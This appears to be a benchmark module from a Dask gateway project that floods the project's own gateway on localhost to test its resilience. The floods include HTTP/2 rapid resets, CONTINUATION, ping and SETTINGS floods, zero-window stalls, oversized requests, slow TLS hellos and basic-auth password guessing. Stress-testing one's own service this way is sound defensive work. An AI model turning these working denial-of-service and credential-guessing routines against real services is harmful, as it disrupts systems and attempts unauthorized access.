"""An attacker in a process of its own: one kind of flood after the other is told, and sent in plain
sockets as fast as they take it.

`python -m benchmarks.abuse_floods FLOOD PORT CA SECONDS AUTHORIZATION [UID TOKEN]`. Ends by itself,
at the latest some seconds after its time. What a flood sends is made once; whenever its connection
is ended, the next begins.
"""

from __future__ import annotations

import contextlib
import os
import pathlib
import random
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Iterator

from daskgateway.internal.v1 import agent_pb2
from daskgateway.v1 import cluster_pb2 as pb
from daskgateway.v1 import cluster_service_pb2 as service_pb

from benchmarks import abuse_doors
from benchmarks.abuse_flood import STALL_S, Content, Target, post, repeated, streams
from benchmarks.abuse_frames import (
    CONTINUATION,
    DATA,
    GREETING,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    RST_STREAM,
    WINDOW_UPDATE,
    call,
    frame,
    head,
    opening,
    setting,
)
from gateway.wire import basic_credentials

NICE = 10  # in life an attacker does not compute on the gateway's own processors
MOST_HELD = 200  # connections of one thread
MIB = 1024 * 1024


# Nobody in particular (anonymous)

BARE = head("ListClusters")
LARGE = head("ListClusters", "", *[(f"x{number}", "y" * 3000) for number in range(4)])
NOTHING = service_pb.ListClustersRequest()


def heads(_: Target) -> Iterator[bytes]:
    """Heads without bodies."""
    return streams(lambda stream: opening(stream, BARE), 1000)


def large_heads(_: Target) -> Iterator[bytes]:
    """Heads of 12 kB without bodies."""
    return streams(lambda stream: opening(stream, LARGE))


def resets(_: Target) -> Iterator[bytes]:
    """Calls that are reset at once."""
    return streams(
        lambda stream: opening(stream, BARE) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)),
        500,
    )


def resets_of_calls(_: Target) -> Iterator[bytes]:
    """Whole calls that are reset at once."""
    return streams(
        lambda stream: (
            call(stream, BARE, NOTHING) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        ),
        500,
    )


def continuations(_: Target) -> Iterator[bytes]:
    """A head that does not end."""
    yield frame(HEADERS, 0, 1, BARE)
    yield from repeated(frame(CONTINUATION, 0, 1, bytes(16_000)), 10)


def small_continuations(_: Target) -> Iterator[bytes]:
    """A head that does not end, in many small frames."""
    yield frame(HEADERS, 0, 1, BARE)
    yield from repeated(frame(CONTINUATION, 0, 1, b""), 2000)


def pings(_: Target) -> Iterator[bytes]:
    """Pings."""
    return repeated(frame(PING, 0, 0, bytes(8)), 2000)


def settings(_: Target) -> Iterator[bytes]:
    """SETTINGS."""
    return repeated(setting(INITIAL_WINDOW_SIZE, 65_535), 2000)


def empties(_: Target) -> Iterator[bytes]:
    """DATA of nothing."""
    yield opening(1, BARE)
    yield from repeated(frame(DATA, 0, 1), 2000)


def windows(target: Target) -> Iterator[bytes]:
    """Windows that are opened byte by byte, on a connection that has signed in."""
    yield call(1, head("WatchClusters", target.authorization), service_pb.WatchClustersRequest())
    yield from repeated(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), 2000)


def bodies(_: Target) -> Iterator[bytes]:
    """Messages that never end."""
    for stream in range(1, 20_001, 2):
        yield opening(stream, BARE) + frame(
            DATA, 0, stream, b"\0" + struct.pack(">I", MIB) + bytes(10_000)
        )


def unsigned(_: Target) -> Iterator[bytes]:
    """Whole calls of nobody."""
    return streams(lambda stream: call(stream, BARE, NOTHING))


def passwords(_: Target) -> Iterator[bytes]:
    """Guesses."""
    return streams(lambda stream: call(stream, head("ListClusters", _guess()), NOTHING), 7)


def _guess() -> str:
    return basic_credentials(f"user{random.randrange(100)}", "guess")


# A user

LIST = service_pb.ListClustersRequest(page_size=500)


def calls(target: Target) -> Iterator[bytes]:
    """As many calls as go."""
    block = head("ListClusters", target.authorization)
    return streams(lambda stream: call(stream, block, LIST))


def watches(target: Target) -> Iterator[bytes]:
    """As many watches as go."""
    block = head("WatchClusters", target.authorization)
    return streams(lambda stream: call(stream, block, service_pb.WatchClustersRequest()), 10)


def untaken(target: Target) -> Iterator[bytes]:
    """Answers that are asked for and never taken."""
    yield setting(INITIAL_WINDOW_SIZE, 0)
    yield from calls(target)


def creates(target: Target) -> Iterator[bytes]:
    """As many clusters as go."""
    block = head("CreateCluster", target.authorization)
    return streams(lambda stream: call(stream, block, service_pb.CreateClusterRequest()), 10)


def groups(target: Target) -> Iterator[bytes]:
    """A megabyte of worker groups."""
    spec = pb.ClusterSpec(
        worker_groups={f"g{number}": pb.WorkerGroup() for number in range(70_000)}
    )
    return _large(
        target, "CreateCluster", service_pb.CreateClusterRequest(cluster=pb.Cluster(spec=spec))
    )


def options(target: Target) -> Iterator[bytes]:
    """A megabyte of options."""
    request = service_pb.CreateClusterRequest()
    request.cluster.spec.options.update({f"option{number}": number for number in range(40_000)})
    return _large(target, "CreateCluster", request)


def logs(target: Target) -> Iterator[bytes]:
    """Many logs, followed."""
    names = [f"worker-{number}" for number in range(190)]
    request = service_pb.StreamLogsRequest(
        name=f"users/-/clusters/{target.uid}", instances=names, follow=True
    )
    return _large(target, "StreamLogs", request)


def reports(target: Target) -> Iterator[bytes]:
    """An agent's reports of a megabyte each."""
    block = head(
        "/daskgateway.internal.v1.AgentService/Connect",
        f"Bearer {target.token}",
        ("dgw-uid", target.uid),
    )
    report = agent_pb2.AgentReport(
        sequence=1, snapshot=True, workers=[f"default-{number}" for number in range(60_000)]
    )
    return streams(lambda stream: call(stream, block, report), 1)


def _large(target: Target, method: str, request: object) -> Iterator[bytes]:
    block = head(method, target.authorization)
    return streams(lambda stream: call(stream, block, request), 1)  # type: ignore[arg-type]


def json_calls(target: Target) -> Iterator[bytes]:
    """JSON of 60 kB, over HTTP/1.1."""
    body = (
        '{"cluster": {"spec": {"options": {'
        + ", ".join(f'"o{n}": {n}' for n in range(4000))
        + "}}}}"
    ).encode()
    return repeated(
        post("/daskgateway.v1.ClusterService/CreateCluster", target.authorization, body), 1
    )


def json_passwords(_: Target) -> Iterator[bytes]:
    """Guesses over HTTP/1.1."""
    while True:
        yield post("/daskgateway.v1.ClusterService/ListClusters", _guess(), b"{}")


# what is sent, in how many threads, and what is agreed on
FLOODS: dict[str, tuple[Content, int, str]] = {
    **{
        flood.__name__: (flood, 4, "h2")
        for flood in (heads, large_heads, resets, resets_of_calls, bodies, unsigned)
    },
    **{
        flood.__name__: (flood, 2, "h2")
        for flood in (continuations, small_continuations, pings, settings, empties, windows)
    },
    **{
        flood.__name__: (flood, 10, "h2") for flood in (passwords, calls, watches, untaken, creates)
    },
    **{flood.__name__: (flood, 4, "h2") for flood in (groups, options, logs, reports)},
    **{flood.__name__: (flood, 20, "http/1.1") for flood in (json_calls, json_passwords)},
}
CONNECTIONS = ("handshakes", "silent", "slow")  # floods of connections themselves


def _send(target: Target, content: Content, protocol: str) -> None:
    """Flood with one connection after the other; those that take no more are held."""
    held: list[ssl.SSLSocket] = []
    greeting = GREETING if protocol == "h2" else b""
    if content is untaken:
        greeting = PREFACE
    while not target.over:
        with contextlib.suppress(OSError):
            made = target.connect()
            held.append(made)
            if len(held) > MOST_HELD:
                held.pop(0).close()
            made.sendall(greeting)
            for piece in content(target):
                if target.over:
                    break
                made.sendall(piece)
                if content is not untaken:
                    _drain(made)
        time.sleep(0.001)
    for made in held:
        made.close()


def _drain(made: ssl.SSLSocket) -> None:
    """Read what there is, so that nothing waits for us."""
    made.settimeout(0)
    try:
        while True:
            if not made.recv(65_536):
                raise ConnectionResetError
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        made.settimeout(STALL_S)


def _connect(target: Target, kind: str) -> None:
    """Flood with connections."""
    held: list[socket.socket] = []
    while not target.over:
        with contextlib.suppress(OSError):
            if kind == "handshakes":
                target.connect().close()
                continue
            raw = socket.create_connection(("127.0.0.1", target.port), timeout=5)
            held.append(raw if kind == "slow" else target.connect())
            if kind == "slow":
                raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
            else:
                raw.close()
            if len(held) > 10 * MOST_HELD:
                held.pop(0).close()
        time.sleep(0.001)
    for made in held:
        made.close()


def _step_back() -> None:
    """Let the gateway and its user have the processors first. Each session is a group of its own to
    Linux's scheduler (sched(7))."""
    os.nice(NICE)
    with contextlib.suppress(OSError):
        pathlib.Path("/proc/self/autogroup").write_text(str(NICE))


def main() -> None:
    """Flood."""
    name, port, ca, seconds, authorization, *rest = sys.argv[1:]
    _step_back()
    context = ssl.create_default_context(cafile=ca)
    content, threads, protocol = {**FLOODS, **abuse_doors.FLOODS}.get(name, (heads, 4, "h2"))
    context.set_alpn_protocols([protocol])
    uid, token = rest if rest else ("", "")
    target = Target(
        int(port), context, time.monotonic() + float(seconds), authorization, uid, token
    )
    if name in CONNECTIONS:
        work = [
            threading.Thread(target=_connect, args=(target, name), daemon=True) for _ in range(4)
        ]
    else:
        work = [
            threading.Thread(target=_send, args=(target, content, protocol), daemon=True)
            for _ in range(threads)
        ]
    for thread in work:
        thread.start()
    for thread in work:
        thread.join(max(0.1, target.ends_at + 5 - time.monotonic()))
    os._exit(0)  # whatever still hangs


if __name__ == "__main__":
    main()
